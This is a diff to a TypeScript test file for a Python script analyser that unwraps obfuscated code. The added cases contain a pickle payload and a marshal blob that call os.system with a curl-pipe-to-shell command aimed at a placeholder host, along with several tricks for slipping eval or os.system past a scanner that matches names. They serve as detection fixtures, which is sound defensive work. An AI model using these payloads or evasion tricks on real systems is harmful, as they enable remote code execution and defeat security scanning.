@@ -6,6 +6,7 @@ import { beforeAll, describe, expect, it } from 'vitest'
 import { analyseScript } from '../analyseScript.ts'
 import { indexKnowledge } from '../knowledgeIndex.ts'
 import type { PythonParser } from '../parse/parser.ts'
+import { furtherWraps } from './wraps.ts'
 
 const knowledge = indexKnowledge(loadKnowledge())
 let parser: PythonParser
@@ -75,6 +76,7 @@ const wraps: Record<string, Wrap> = {
   replaced: (code) => `exec(${quoted([...code].join('~!'))}.replace('~!', ''))`,
   function: (code) =>
     `def reveal(data):\n    import base64\n    return base64.b64decode(data)\nexec(reveal('${base64(code)}'))`,
+  ...furtherWraps,
 }
 
 const CORE = "import os\nos.system(input('last layer'))"
@@ -123,6 +125,20 @@ describe('unwrapping', () => {
     expect(layers[0]?.excerpt).toContain('system')
   })
 
+  it('runs what a pickle would call', () => {
+    const { findings } = analyse(
+      'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'curl http://h.invalid/x | sh\'\\ntR.")',
+    )
+    expect(findings.map((finding) => finding.rule)).toContain('command-downloads')
+  })
+
+  it('tries what a marshalled code object may call with its constants', () => {
+    const { findings } = analyse(
+      "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\xda\\x06systemz\\x1ccurl http://h.invalid/x | sh\\x00'))",
+    )
+    expect(findings.map((finding) => finding.rule)).toContain('command-downloads')
+  })
+
   it('does not take decoded data for code', () => {
     const { layers, findings } = analyse("import base64\nprint(base64.b64decode('aGVsbG8gd29ybGQ='))")
     expect([layers, findings]).toEqual([[], []])
@@ -141,6 +157,10 @@ describe('ways round a scanner of names', () => {
     'globals()["__builtins__"].eval(input())',
     'from os import *\nsystem(input())',
     'import importlib\nimportlib.import_module("o" + "s").popen(input())',
+    '\u{1d41e}\u{1d42f}\u{1d41a}\u{1d425}(input())',
+    'import os\nos.__getattribute__("system")(input())',
+    'eval.__call__(input())',
+    '(lambda: 0).__globals__["__builtins__"].eval(input())',
   ])('finds %s', (script) => {
     const rules = analyse(script).findings.map((finding) => finding.rule)
     expect(rules.some((rule) => rule === 'code-injection' || rule === 'command-injection')).toBe(true)
